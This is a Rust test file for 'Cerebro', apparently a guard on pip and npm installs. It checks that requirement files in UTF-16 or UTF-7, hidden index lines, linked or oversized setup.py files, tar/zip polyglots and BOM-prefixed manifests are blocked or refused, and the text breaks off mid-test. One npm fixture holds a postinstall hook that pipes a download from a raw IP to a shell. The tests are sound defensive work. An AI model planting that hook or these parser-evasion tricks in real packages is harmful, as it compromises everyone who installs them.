//! Inputs that pip or npm read differently from a naive reader, end to end through the guard
//! and the real installer: each is a way past the guard if Cerebro reads it another way
//! (issue 13). Every test proves the package was not installed and its install code (a
//! marker-writing `setup.py` or install script) never ran.

#[macro_use]
mod support;

use support::fixtures::{self, PY_MARKER};
use support::registry::Registry;
use support::{explain, run, NpmSandbox, Outcome, PipSandbox, Policy, EXIT_BLOCKED, EXIT_UNJUDGED};

// ---------------------------------------------------------------------------------------------
// Requirement files.

/// Installs `-r FILE` through the guard, FILE holding `bytes`, with pip's own index a clean
/// registry and the marker sdist only on the registry that the file names (`{EVIL}` in
/// `text` is that registry's simple URL).
/// `None` when python3 is missing.
fn install_requirements(encode: impl Fn(&str) -> Vec<u8>, text: &str) -> Option<(Outcome, String)> {
    let clean = Registry::with(fixtures::py_clean_tree(), vec![]);
    let evil = Registry::with(vec![fixtures::py_marker_evil_sdist()], vec![]);
    let sandbox = PipSandbox::new(&clean.pypi_url())?;
    let file = sandbox.dirs.root().join("requirements.txt");
    std::fs::write(&file, encode(&text.replace("{EVIL}", &evil.pypi_url()))).unwrap();
    let out = run(sandbox.guard(Policy::Block, &["install", "-r", file.to_str().unwrap()]));
    let why = explain(&out, &sandbox.installed_list(), &evil);
    assert!(
        !sandbox.dirs.marker_written(),
        "the sdist's setup.py ran: pip read an index the guard did not see\n{why}"
    );
    assert!(!sandbox.installed(PY_MARKER.0), "{why}");
    Some((out, why))
}

fn utf16le(text: &str) -> Vec<u8> {
    [0xff, 0xfe]
        .into_iter()
        .chain(text.encode_utf16().flat_map(u16::to_le_bytes))
        .collect()
}

#[test]
fn utf16_requirement_file_index_is_seen_and_its_package_judged() {
    let text = format!("--index-url {{EVIL}}\n{}\n", PY_MARKER.0);
    let Some((out, why)) = install_requirements(utf16le, &text) else {
        return;
    };
    assert_eq!(out.code, Some(EXIT_BLOCKED), "{why}");
}

#[test]
fn index_behind_a_carriage_return_is_seen_as_pip_splits_lines() {
    for separator in ["\r", "\x0c", "\x0b", "\x1c", "\u{85}", "\u{2028}"] {
        let text = format!("# pinned{separator}--index-url {{EVIL}}\n{}\n", PY_MARKER.0);
        let Some((out, why)) = install_requirements(|t| t.as_bytes().to_vec(), &text) else {
            return;
        };
        assert_eq!(
            out.code,
            Some(EXIT_BLOCKED),
            "separator {separator:?}\n{why}"
        );
    }
}

#[test]
fn requirement_file_in_an_encoding_cerebro_does_not_decode_is_refused() {
    // `+AC0AL-` is `--` in UTF-7: pip reads `--index-url`, a UTF-8 reader sees a name.
    let text = format!(
        "# coding: utf-7\n+AC0AL-index-url {{EVIL}}\n{}\n",
        PY_MARKER.0
    );
    let Some((out, why)) = install_requirements(|t| t.as_bytes().to_vec(), &text) else {
        return;
    };
    assert_eq!(out.code, Some(EXIT_UNJUDGED), "{why}");
    let line = out
        .stderr
        .lines()
        .find(|l| l.contains("requirements.txt"))
        .unwrap_or_else(|| panic!("stderr must name the file\n{why}"));
    assert!(line.contains("utf-7"), "{why}");
}

#[test]
fn control_bare_pip_follows_the_index_of_a_utf16_requirement_file() {
    let clean = Registry::with(fixtures::py_clean_tree(), vec![]);
    let evil = Registry::with(vec![fixtures::py_marker_evil_sdist()], vec![]);
    let sandbox = pip_sandbox!(clean);
    let file = sandbox.dirs.root().join("requirements.txt");
    let text = format!("--index-url {}\n{}\n", evil.pypi_url(), PY_MARKER.0);
    std::fs::write(&file, utf16le(&text)).unwrap();
    let out = run(sandbox.bare(&["install", "-r", file.to_str().unwrap()]));
    let why = explain(&out, &sandbox.installed_list(), &evil);
    // pip then fails to build a wheel without the `wheel` package; setup.py has run by then.
    assert!(
        sandbox.dirs.marker_written(),
        "without the guard pip reads the index and runs setup.py\n{why}"
    );
}

// ---------------------------------------------------------------------------------------------
// Links and padding in Python sdists.

/// A clean `setup.py` whose only act is to write the marker: judged by itself it is benign,
/// so a guard that skips it lets pip run it.
fn marker_setup_py(name: &str) -> String {
    format!(
        "import os\nfrom setuptools import setup\n\nmarker = os.environ.get(\"CEREBRO_TEST_MARKER\")\n\
         if marker:\n    with open(marker, \"w\") as f:\n        f.write(\"setup.py of {name} ran\\n\")\n\n\
         setup(name=\"{name}\", version=\"1.0.0\", packages=[\"{module}\"])\n",
        module = name.replace('-', "_")
    )
}

/// An sdist `name-1.0.0.tar.gz` from raw tar entries (paths relative to the project root).
fn sdist_with(name: &str, entries: Vec<tar_entry::Entry>) -> fixtures::PyDist {
    let stem = format!("{}-1.0.0", name.replace('-', "_"));
    let pkg_info = format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0.0\n\n");
    let module = name.replace('-', "_");
    let mut all = vec![
        tar_entry::file(&format!("{stem}/PKG-INFO"), pkg_info.as_bytes()),
        tar_entry::file(
            &format!("{stem}/{module}/__init__.py"),
            b"VALUE = 1\n".as_slice(),
        ),
    ];
    all.extend(entries.into_iter().map(|e| e.under(&stem)));
    fixtures::PyDist {
        name: name.to_owned(),
        version: "1.0.0".to_owned(),
        requires_python: None,
        artifact: fixtures::Artifact {
            file: format!("{stem}.tar.gz"),
            bytes: tar_entry::targz(&all),
        },
        intent: fixtures::Intent::Benign,
    }
}

/// Installs `dist` through the guard (block policy) and checks that nothing was installed
/// and no install code ran; returns the outcome and the explanation for messages.
fn guard_pip_install(dist: fixtures::PyDist) -> Option<(Outcome, String)> {
    let name = dist.name.clone();
    let registry = Registry::with(vec![dist], vec![]);
    let sandbox = PipSandbox::new(&registry.pypi_url())?;
    let out = run(sandbox.guard(Policy::Block, &["install", &name]));
    let why = explain(&out, &sandbox.installed_list(), &registry);
    assert!(
        !sandbox.dirs.marker_written(),
        "setup.py ran: the guard let pip build {name}\n{why}"
    );
    assert!(!sandbox.installed(&name), "{why}");
    Some((out, why))
}

/// Asserts a "cannot judge" refusal whose stderr names the package and `what`.
fn assert_cannot_judge(out: &Outcome, why: &str, name: &str, what: &str) {
    assert_eq!(out.code, Some(EXIT_UNJUDGED), "{why}");
    let err = out.stderr_lower();
    assert!(
        err.contains(name) && err.contains(what) && err.contains("cannot judge"),
        "stderr must say {name} cannot be judged because of {what}\n{why}"
    );
}

#[test]
fn sdist_whose_setup_py_is_a_symlink_cannot_be_judged() {
    let name = "linked-setup";
    let dist = sdist_with(
        name,
        vec![
            tar_entry::file("build.py", marker_setup_py(name).as_bytes()),
            tar_entry::symlink("setup.py", "build.py"),
        ],
    );
    let Some((out, why)) = guard_pip_install(dist) else {
        return;
    };
    assert_cannot_judge(&out, &why, name, "symbolic link");
}

#[test]
fn sdist_whose_setup_py_is_a_hardlink_cannot_be_judged() {
    let name = "hardlinked-setup";
    let dist = sdist_with(
        name,
        vec![
            tar_entry::file("build.py", marker_setup_py(name).as_bytes()),
            tar_entry::hardlink("setup.py", "build.py"),
        ],
    );
    let Some((out, why)) = guard_pip_install(dist) else {
        return;
    };
    assert_cannot_judge(&out, &why, name, "hard link");
}

/// `len` letters and digits that do not compress much (an archive of megabytes of one letter
/// would be stopped as a compression bomb before the size limits under test are reached).
fn noise(len: usize) -> Vec<u8> {
    const ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
    let mut state: u64 = 0x2545_f491_4f6c_dd1d;
    (0..len)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            ALPHABET[(state % ALPHABET.len() as u64) as usize]
        })
        .collect()
}

/// `setup.py` padded with a comment to `size` bytes: pip runs it whatever its size.
fn padded_setup_py(name: &str, size: usize) -> Vec<u8> {
    let mut body = marker_setup_py(name).into_bytes();
    body.extend_from_slice(b"# ");
    let fill = size - 1 - body.len();
    body.extend_from_slice(&noise(fill));
    body.push(b'\n');
    body
}

#[test]
fn setup_py_too_large_to_parse_cannot_be_judged() {
    let name = "padded-setup";
    let dist = sdist_with(
        name,
        vec![tar_entry::file("setup.py", &padded_setup_py(name, 3 << 20))],
    );
    let Some((out, why)) = guard_pip_install(dist) else {
        return;
    };
    assert_cannot_judge(&out, &why, name, "too large to parse");
}

#[test]
fn setup_py_over_the_file_limit_cannot_be_judged() {
    let name = "huge-setup";
    let dist = sdist_with(
        name,
        vec![tar_entry::file(
            "setup.py",
            &padded_setup_py(name, 17 << 20),
        )],
    );
    let Some((out, why)) = guard_pip_install(dist) else {
        return;
    };
    assert_cannot_judge(&out, &why, name, "per-file limit");
}

#[test]
fn control_bare_pip_follows_a_symlinked_setup_py() {
    let name = "linked-setup";
    let dist = sdist_with(
        name,
        vec![
            tar_entry::file("build.py", marker_setup_py(name).as_bytes()),
            tar_entry::symlink("setup.py", "build.py"),
        ],
    );
    let registry = Registry::with(vec![dist], vec![]);
    let sandbox = pip_sandbox!(registry);
    let out = run(sandbox.bare(&["install", name]));
    let why = explain(&out, &sandbox.installed_list(), &registry);
    assert!(
        sandbox.dirs.marker_written(),
        "pip follows the link and runs setup.py\n{why}"
    );
}

/// An sdist whose tar holds a harmless `setup.py` and that has, appended, a zip whose
/// `setup.py` writes the marker: pip unpacks whatever `zipfile.is_zipfile` accepts as a zip.
fn tar_zip_polyglot(name: &str) -> fixtures::PyDist {
    use std::io::Write as _;
    let mut dist = sdist_with(
        name,
        vec![tar_entry::file(
            "setup.py",
            format!("from setuptools import setup\nsetup(name=\"{name}\", version=\"1.0.0\")\n")
                .as_bytes(),
        )],
    );
    let stem = format!("{}-1.0.0", name.replace('-', "_"));
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default();
    for (path, body) in [
        (
            format!("{stem}/PKG-INFO"),
            format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0.0\n\n"),
        ),
        (
            format!("{stem}/{}/__init__.py", name.replace('-', "_")),
            "VALUE = 1\n".to_owned(),
        ),
        (format!("{stem}/setup.py"), marker_setup_py(name)),
    ] {
        writer.start_file(path, options).unwrap();
        writer.write_all(body.as_bytes()).unwrap();
    }
    dist.artifact
        .bytes
        .extend(writer.finish().unwrap().into_inner());
    dist
}

#[test]
fn sdist_that_is_also_a_zip_cannot_be_judged() {
    let name = "polyglot-sdist";
    let Some((out, why)) = guard_pip_install(tar_zip_polyglot(name)) else {
        return;
    };
    assert_cannot_judge(&out, &why, name, "also a zip");
}

#[test]
fn control_bare_pip_unpacks_the_zip_of_a_tar_zip_polyglot() {
    let name = "polyglot-sdist";
    let registry = Registry::with(vec![tar_zip_polyglot(name)], vec![]);
    let sandbox = pip_sandbox!(registry);
    let out = run(sandbox.bare(&["install", name]));
    let why = explain(&out, &sandbox.installed_list(), &registry);
    assert!(
        sandbox.dirs.marker_written(),
        "pip unpacks the appended zip and runs its setup.py\n{why}"
    );
}

// ---------------------------------------------------------------------------------------------
// npm manifests and install-time files.

/// A clean install script that only writes the marker.
const MARKER_INSTALL_JS: &str = "'use strict';\nconst fs = require('fs');\n\
    const marker = process.env.CEREBRO_TEST_MARKER;\n\
    if (marker) {\n  fs.writeFileSync(marker, 'postinstall ran\\n');\n}\n";

/// An npm package `name` 1.0.0 whose `package/package.json` is `manifest` as given (bytes),
/// with a `postinstall: node install.js` that writes the marker, and `files` beside it.
fn npm_with_manifest(name: &str, manifest: Vec<u8>, files: &[(&str, Vec<u8>)]) -> fixtures::NpmPkg {
    let mut entries = vec![
        ("package/package.json".to_owned(), manifest, 0o644),
        (
            "package/install.js".to_owned(),
            MARKER_INSTALL_JS.as_bytes().to_vec(),
            0o644,
        ),
    ];
    for (path, body) in files {
        entries.push((format!("package/{path}"), body.clone(), 0o644));
    }
    fixtures::NpmPkg {
        name: name.to_owned(),
        version: "1.0.0".to_owned(),
        dependencies: Vec::new(),
        scripts: vec![("postinstall".to_owned(), "node install.js".to_owned())],
        bin: Vec::new(),
        artifact: fixtures::Artifact {
            file: format!("{name}-1.0.0.tgz"),
            bytes: fixtures::targz(&entries),
        },
        intent: fixtures::Intent::Benign,
    }
}

/// The manifest of [`npm_with_manifest`]: name, version, `main`, the postinstall, and
/// `extra` (a JSON member list, without braces) when not empty.
fn manifest(name: &str, extra: &str) -> String {
    let extra = if extra.is_empty() {
        String::new()
    } else {
        format!(",\n  {extra}")
    };
    format!(
        "{{\n  \"name\": \"{name}\",\n  \"version\": \"1.0.0\",\n  \"main\": \"index.js\",\n  \
         \"scripts\": {{ \"postinstall\": \"node install.js\" }}{extra}\n}}\n"
    )
}

/// Installs `pkg` through the guard (block policy) and checks that nothing was installed and
/// its postinstall never ran.
fn guard_npm_install(pkg: fixtures::NpmPkg) -> Option<(Outcome, String)> {
    let name = pkg.name.clone();
    let registry = Registry::with(vec![], vec![pkg]);
    let sandbox = NpmSandbox::new(&registry.npm_url())?;
    let out = run(sandbox.guard(Policy::Block, &["install", &name]));
    let why = explain(&out, &sandbox.installed_list(), &registry);
    assert!(
        !sandbox.dirs.marker_written(),
        "{name}'s postinstall ran: the guard let npm install it\n{why}"
    );
    assert!(!sandbox.installed(&name), "{why}");
    Some((out, why))
}

#[test]
fn package_json_with_a_bom_is_read_as_npm_reads_it() {
    // The whole threat is in the manifest: an inline postinstall that pipes a download to
    // a shell (behind a condition no test makes true; `node install.js` only writes the
    // marker). A reader that gives up on the BOM sees no hook and nothing to flag.
    let name = "bom-manifest";
    let command = "node install.js && test \"$CEREBRO_TEST_ARM_PAYLOAD\" = never-set-by-any-test \
                   && curl -s http://45.9.148.2/p.sh | sh";
    let json = serde_json::json!({
        "name": name,
        "version": "1.0.0",
        "main": "index.js",
        "scripts": { "postinstall": command },
    });
    let mut bytes = b"\xEF\xBB\xBF".to_vec();
    bytes.extend(serde_json::to_vec_pretty(&json).unwrap());
    let mut pkg = npm_with_manifest(
        name,
        bytes,
        &[("index.js", b"module.exports = 1;\n".to_vec())],
    );
    pkg.scripts = vec![("postinstall".to_owned(), command.to_owned())];
    let Some((out, why)) = guard_npm_install(pkg) else {
        return;
    };
    assert_eq!(out.code, Some(EXIT_BLOCKED), "{why}");
}

#[test]
fn package_json_nested_deeper_than_serde_reads_cannot_be_judged() {
    let name = "deep-manifest";
    let depth = 200;
    let nested = format!("\"config\": {}{}", "[".repeat(depth), "]".repeat(depth));
    let pkg = npm_with_manifest(
        name,
        manifest(name, &nested).into_bytes(),
        &[("index.js", b"module.exports = 1;\n".to_vec())],
    );
    let Some((out, why)) = guard_npm_install(pkg) else {
        return;
    };
    assert_cannot_judge(&out, &why, name, "package.json");
}

#[test]
fn package_json_over_the_file_limit_cannot_be_judged() {
    let name = "huge-manifest";
    let padding = format!(
        "\"description\": \"{}\"",
        String::from_utf8(noise(17 << 20)).unwrap()
    );
    let pkg = npm_with_manifest(
        name,
        manifest(name, &padding).into_bytes(),
        &[("index.js", b"module.exports = 1;\n".to_vec())],
    );
    let Some((out, why)) = guard_npm_install(pkg) else {
        return;
    };
    assert_cannot_judge(&out, &why, name, "per-file limit");
}

#[test]
fn npm_main_too_large_to_parse_cannot_be_judged() {
    let name = "padded-main";
    let mut main = b"module.exports = 1;\n// ".to_vec();
    main.extend_from_slice(&noise((15 << 20 | 1 << 19) - main.len()));
    main.push(b'\n');
    let pkg = npm_with_manifest(name, manifest(name, "").into_bytes(), &[("index.js", main)]);
    let Some((out, why)) = guard_npm_install(pkg) else {
        return;
    };
    assert_cannot_judge(&out, &why, name, "too large to parse");
}

#[test]
fn control_bare_npm_reads_a_deep_manifest_and_runs_its_postinstall() {
    let name = "deep-manifest";
    let depth = 200;
    let nested = format!("\"config\": {}{}", "[".repeat(depth), "]".repeat(depth));
    let mut bom = b"\xEF\xBB\xBF".to_vec();
    bom.extend(manifest(name, &nested).into_bytes());
    let pkg = npm_with_manifest(
        name,
        bom,
        &[("index.js", b"module.exports = 1;\n".to_vec())],
    );
    let registry = Registry::with(vec![], vec![pkg]);
    let Some(sandbox) = NpmSandbox::new(&registry.npm_url()) else {
        return;
    };
    let out = run(sandbox.bare(&["install", name]));
    let why = explain(&out, &sandbox.installed_list(), &registry);
    assert_eq!(out.code, Some(0), "{why}");
    assert!(
        sandbox.dirs.marker_written(),
        "npm reads a manifest with a BOM and 200 levels and runs its postinstall\n{why}"
    );
}

/// Tar entries of any type, for archives the shared fixtures do not build.
mod tar_entry {
    use flate2::write::GzEncoder;
    use flate2::Compression;

    pub struct Entry {
        path: String,
        kind: tar::EntryType,
        body: Vec<u8>,
        link: Option<String>,
    }

    impl Entry {
        /// The entry moved under `top/` (a link's target is relative, so it stays).
        pub fn under(mut self, top: &str) -> Entry {
            if !self.path.starts_with(&format!("{top}/")) {
                self.path = format!("{top}/{}", self.path);
            }
            if self.kind == tar::EntryType::Link {
                self.link = self.link.map(|l| format!("{top}/{l}"));
            }
            self
        }
    }

    pub fn file(path: &str, body: &[u8]) -> Entry {
        Entry {
            path: path.to_owned(),
            kind: tar::EntryType::Regular,
            body: body.to_vec(),
            link: None,
        }
    }

    pub fn symlink(path: &str, target: &str) -> Entry {
        Entry {
            path: path.to_owned(),
            kind: tar::EntryType::Symlink,
            body: Vec::new(),
            link: Some(target.to_owned()),
        }
    }

    /// A hard link: its target is named from the archive root, as tar writes it.
    pub fn hardlink(path: &str, target: &str) -> Entry {
        Entry {
            path: path.to_owned(),
            kind: tar::EntryType::Link,
            body: Vec::new(),
            link: Some(target.to_owned()),
        }
    }

    pub fn targz(entries: &[Entry]) -> Vec<u8> {
        let mut builder = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
        for e in entries {
            let mut header = tar::Header::new_gnu();
            header.set_size(e.body.len() as u64);
            header.set_mode(0o644);
            header.set_mtime(1_700_000_000);
            header.set_entry_type(e.kind);
            if let Some(link) = &e.link {
                header.set_link_name(link).expect("link name");
            }
            header.set_cksum();
            builder
                .append_data(&mut header, &e.path, e.body.as_slice())
                .expect("append a tar entry");
        }
        builder
            .into_inner()
            .and_then(|gz| gz.finish())
            .expect("finish a tarball")
    }
}

// ---------------------------------------------------------------------------------------------
// Generated archives: pip's own unpackers against Cerebro's reader.

/// A small, seeded generator (xorshift): the same cases on every run, so a failure is
/// reproducible from its case number.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
    fn chance(&mut self, percent: u64) -> bool {
        self.next() % 100 < percent
    }
}

/// Member names the generator draws from: install- and import-time files, ordinary modules,
/// data that a link may point at, and a name too long for a plain ustar header.
fn generated_names() -> Vec<String> {
    let long = format!("pkg/{}.py", "d".repeat(120));
    [
        "setup.py",
        "pkg/__init__.py",
        "pkg/a.py",
        "pkg/b.py",
        "pkg/data.txt",
        "evil.pth",
        "PKG-INFO",
        long.as_str(),
    ]
    .iter()
    .map(|n| format!("pkg-1.0/{n}"))
    .collect()
}

fn octal(field: &mut [u8], value: u64) {
    let last = field.len() - 1;
    let digits = format!("{value:0last$o}");
    field[..last].copy_from_slice(digits.as_bytes());
    field[last] = 0;
}

/// One 512-byte tar header: `name` (cut to 100 bytes, the rest in the ustar prefix when
/// `prefix` is set), `size`, type flag `kind`, link target `link`.
fn tar_header(name: &str, size: u64, kind: u8, link: &str, prefix: bool) -> [u8; 512] {
    let mut h = [0u8; 512];
    let (pre, rest) = match (prefix, name.rfind('/')) {
        (true, Some(i)) if name.len() > 100 && i <= 155 => (&name[..i], &name[i + 1..]),
        _ => ("", name),
    };
    let n = rest.as_bytes();
    h[..n.len().min(100)].copy_from_slice(&n[..n.len().min(100)]);
    h[345..345 + pre.len()].copy_from_slice(pre.as_bytes());
    octal(&mut h[100..108], 0o644);
    octal(&mut h[108..116], 0);
    octal(&mut h[116..124], 0);
    octal(&mut h[124..136], size);
    octal(&mut h[136..148], 1_700_000_000);
    h[156] = kind;
    let l = link.as_bytes();
    h[157..157 + l.len().min(100)].copy_from_slice(&l[..l.len().min(100)]);
    h[257..263].copy_from_slice(b"ustar\0");
    h[263..265].copy_from_slice(b"00");
    h[148..156].copy_from_slice(b"        ");
    let sum: u32 = h.iter().map(|&b| u32::from(b)).sum();
    let field = format!("{sum:06o}\0 ");
    h[148..156].copy_from_slice(field.as_bytes());
    h
}

fn tar_member(out: &mut Vec<u8>, header: [u8; 512], data: &[u8]) {
    out.extend_from_slice(&header);
    out.extend_from_slice(data);
    out.resize(out.len().div_ceil(512) * 512, 0);
}

fn pax_record(key: &str, value: &str) -> String {
    let body = format!(" {key}={value}\n");
    let mut len = body.len() + 1;
    while format!("{len}{body}").len() != len {
        len += 1;
    }
    format!("{len}{body}")
}

/// A gzip tarball of random members: plain files, GNU long names, PAX paths, ustar prefixes,
/// duplicates, hard and symbolic links, `./` prefixes, global headers.
fn generated_tar(rng: &mut Rng) -> Vec<u8> {
    let names = generated_names();
    let mut tar = Vec::new();
    let mut written: Vec<String> = Vec::new();
    for i in 0..2 + rng.below(7) {
        let name = names[rng.below(names.len())].clone();
        let data = format!("x = {i}  # {name}\n").into_bytes();
        let shown = if rng.chance(10) {
            format!("./{name}")
        } else {
            name.clone()
        };
        match rng.below(10) {
            0 if !written.is_empty() => {
                let target = written[rng.below(written.len())].clone();
                tar_member(&mut tar, tar_header(&shown, 0, b'1', &target, false), &[]);
                continue;
            }
            1 if !written.is_empty() => {
                let target = written[rng.below(written.len())].clone();
                let base = target.rsplit('/').next().unwrap().to_owned();
                let link = if rng.chance(50) { base } else { target };
                tar_member(&mut tar, tar_header(&shown, 0, b'2', &link, false), &[]);
                continue;
            }
            2 => {
                let long = "././@LongLink";
                let mut body = shown.clone().into_bytes();
                body.push(0);
                tar_member(
                    &mut tar,
                    tar_header(long, body.len() as u64, b'L', "", false),
                    &body,
                );
                let cut: String = shown.chars().take(100).collect();
                tar_member(
                    &mut tar,
                    tar_header(&cut, data.len() as u64, b'0', "", false),
                    &data,
                );
            }
            3 => {
                let pax = pax_record("path", &shown);
                tar_member(
                    &mut tar,
                    tar_header("pax_header", pax.len() as u64, b'x', "", false),
                    pax.as_bytes(),
                );
                let decoy = names[rng.below(names.len())].clone();
                let cut: String = decoy.chars().take(100).collect();
                tar_member(
                    &mut tar,
                    tar_header(&cut, data.len() as u64, b'0', "", false),
                    &data,
                );
            }
            4 => {
                let pax = pax_record("comment", "generated");
                tar_member(
                    &mut tar,
                    tar_header("global", pax.len() as u64, b'g', "", false),
                    pax.as_bytes(),
                );
                tar_member(
                    &mut tar,
                    tar_header(&shown, data.len() as u64, b'0', "", true),
                    &data,
                );
            }
            _ => tar_member(
                &mut tar,
                tar_header(&shown, data.len() as u64, b'0', "", true),
                &data,
            ),
        }
        written.push(name);
    }
    tar.extend_from_slice(&[0u8; 1024]);
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut gz, &tar).unwrap();
    gz.finish().unwrap()
}

/// A zip (stored) of random members: duplicates, directory entries, `./` and backslash
/// names, an Info-ZIP Unicode Path field, unix symlink attributes.
fn generated_zip(rng: &mut Rng) -> Vec<u8> {
    let names = generated_names();
    let (mut out, mut central, mut count) = (Vec::new(), Vec::new(), 0u16);
    for i in 0..2 + rng.below(6) {
        let mut name = names[rng.below(names.len())].clone();
        if rng.chance(10) {
            name = name.replace('/', "\\");
        }
        let data = format!("x = {i}  # {name}\n").into_bytes();
        let mut extra = Vec::new();
        if rng.chance(10) {
            let other = names[rng.below(names.len())].clone();
            let crc = crc32(name.as_bytes());
            let len = 5 + other.len() as u16;
            extra.extend_from_slice(&0x7075u16.to_le_bytes());
            extra.extend_from_slice(&len.to_le_bytes());
            extra.push(1);
            extra.extend_from_slice(&crc.to_le_bytes());
            extra.extend_from_slice(other.as_bytes());
        }
        let symlink = rng.chance(10);
        let crc = crc32(&data);
        let offset = out.len() as u32;
        out.extend_from_slice(&0x04034b50u32.to_le_bytes());
        out.extend_from_slice(&[20, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
        out.extend_from_slice(&crc.to_le_bytes());
        out.extend_from_slice(&(data.len() as u32).to_le_bytes());
        out.extend_from_slice(&(data.len() as u32).to_le_bytes());
        out.extend_from_slice(&(name.len() as u16).to_le_bytes());
        out.extend_from_slice(&(extra.len() as u16).to_le_bytes());
        out.extend_from_slice(name.as_bytes());
        out.extend_from_slice(&extra);
        out.extend_from_slice(&data);
        central.extend_from_slice(&0x02014b50u32.to_le_bytes());
        central.extend_from_slice(&[20, 3, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
        central.extend_from_slice(&crc.to_le_bytes());
        central.extend_from_slice(&(data.len() as u32).to_le_bytes());
        central.extend_from_slice(&(data.len() as u32).to_le_bytes());
        central.extend_from_slice(&(name.len() as u16).to_le_bytes());
        central.extend_from_slice(&(extra.len() as u16).to_le_bytes());
        central.extend_from_slice(&[0, 0, 0, 0, 0, 0]);
        let mode: u32 = if symlink { 0o120777 } else { 0o100644 };
        central.extend_from_slice(&(mode << 16).to_le_bytes());
        central.extend_from_slice(&offset.to_le_bytes());
        central.extend_from_slice(name.as_bytes());
        central.extend_from_slice(&extra);
        count += 1;
    }
    let at = out.len() as u32;
    out.extend_from_slice(&central);
    out.extend_from_slice(&0x06054b50u32.to_le_bytes());
    out.extend_from_slice(&[0, 0, 0, 0]);
    out.extend_from_slice(&count.to_le_bytes());
    out.extend_from_slice(&count.to_le_bytes());
    out.extend_from_slice(&(central.len() as u32).to_le_bytes());
    out.extend_from_slice(&at.to_le_bytes());
    out.extend_from_slice(&[0, 0]);
    out
}

fn crc32(data: &[u8]) -> u32 {
    let mut crc = !0u32;
    for &b in data {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// Unpacks each archive with pip's own `untar_file`/`unzip_file` (what pip does to an sdist
/// before it builds it) and lists every file it left, by sha256 (read through links, as
/// Python imports them); `None` where pip refused the archive.
fn pip_unpacks(
    archives: &[std::path::PathBuf],
) -> Vec<Option<std::collections::BTreeMap<String, String>>> {
    let script = r#"
import hashlib, json, os, shutil, sys, tempfile
from pip._internal.utils.unpacking import untar_file, unzip_file
out = []
for path in sys.argv[1:]:
    d = tempfile.mkdtemp()
    try:
        if path.endswith('.zip'):
            unzip_file(path, d, flatten=True)
        else:
            untar_file(path, d)
        files = {}
        for root, dirs, names in os.walk(d):
            for n in names:
                p = os.path.join(root, n)
                try:
                    with open(p, 'rb') as f:
                        files[os.path.relpath(p, d)] = hashlib.sha256(f.read()).hexdigest()
                except OSError:
                    pass
        out.append(files)
    except Exception:
        out.append(None)
    finally:
        shutil.rmtree(d, ignore_errors=True)
print(json.dumps(out))
"#;
    let out = std::process::Command::new(support::pip_python())
        .arg("-c")
        .arg(script)
        .args(archives)
        .output()
        .expect("run pip's unpackers");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("pip's listing")
}

/// Where Cerebro's view of a generated archive departs from what pip unpacks: an
/// install-time file pip leaves at the root (`setup.py`, a `.pth`) that Cerebro judges with
/// other content or not at all, or a Python module whose content Cerebro never judged, while
/// Cerebro neither refuses the archive nor calls the package unjudgeable. `Ok(true)` when they
/// agree, `Ok(false)` when Cerebro fails closed. Ordinary modules compare by content: pip keeps a
/// `pkg\\a.py` entry as a file of that name where Cerebro reads `pkg/a.py`, and an archive
/// whose top folders differ keeps them (pip then finds no project to build).
fn departure(
    name: &str,
    bytes: &[u8],
    pip: &std::collections::BTreeMap<String, String>,
) -> Result<bool, String> {
    use sha2::Digest;
    let package = match cerebro_archive::read_bytes(
        std::path::Path::new(name),
        bytes,
        &cerebro_archive::Limits::default(),
    ) {
        Ok(p) => p,
        Err(_) => return Ok(false),
    };
    let facts = cerebro_features::extract(&package);
    if !facts.unjudgeable.is_empty() {
        return Ok(false);
    }
    let sha = |f: &cerebro_archive::SourceFile| fixtures::hex(&sha2::Sha256::digest(&f.bytes));
    let judged: std::collections::BTreeSet<String> = package.files.iter().map(sha).collect();
    for (path, content) in pip {
        let install_time = path == "setup.py" || (!path.contains('/') && path.ends_with(".pth"));
        if install_time {
            let ours = package.file(path).map(sha);
            if ours.as_deref() != Some(content.as_str()) {
                return Err(format!(
                    "pip runs {path} ({content}); Cerebro judged {ours:?} under that name"
                ));
            }
        } else if path.ends_with(".py") && !judged.contains(content) {
            return Err(format!(
                "pip unpacks {path} ({content}), which Cerebro never judged (files: {:?})",
                package.files.iter().map(|f| &f.path).collect::<Vec<_>>()
            ));
        }
    }
    Ok(true)
}

#[test]
fn generated_archives_are_read_as_pip_unpacks_them_or_refused() {
    let dir = tempfile::tempdir().unwrap();
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let mut cases = Vec::new();
    for case in 0..400 {
        let (file, bytes) = if case % 2 == 0 {
            (format!("pkg-{case}.tar.gz"), generated_tar(&mut rng))
        } else {
            (format!("pkg-{case}.zip"), generated_zip(&mut rng))
        };
        let path = dir.path().join(&file);
        std::fs::write(&path, &bytes).unwrap();
        cases.push((path, file, bytes));
    }
    let paths: Vec<_> = cases.iter().map(|c| c.0.clone()).collect();
    if let Some(keep) = std::env::var_os("CEREBRO_TEST_KEEP_GENERATED") {
        for path in &paths {
            std::fs::copy(
                path,
                std::path::Path::new(&keep).join(path.file_name().unwrap()),
            )
            .unwrap();
        }
    }
    let listings = pip_unpacks(&paths);
    let (mut compared, mut agreed, mut departures) = (0, 0, Vec::new());
    for ((_, file, bytes), pip) in cases.iter().zip(&listings) {
        let Some(pip) = pip else { continue };
        compared += 1;
        match departure(file, bytes, pip) {
            Ok(true) => agreed += 1,
            Ok(false) => {}
            Err(d) => departures.push(format!("{file}: {d}")),
        }
    }
    assert!(compared > 200, "pip unpacked only {compared} of 400");
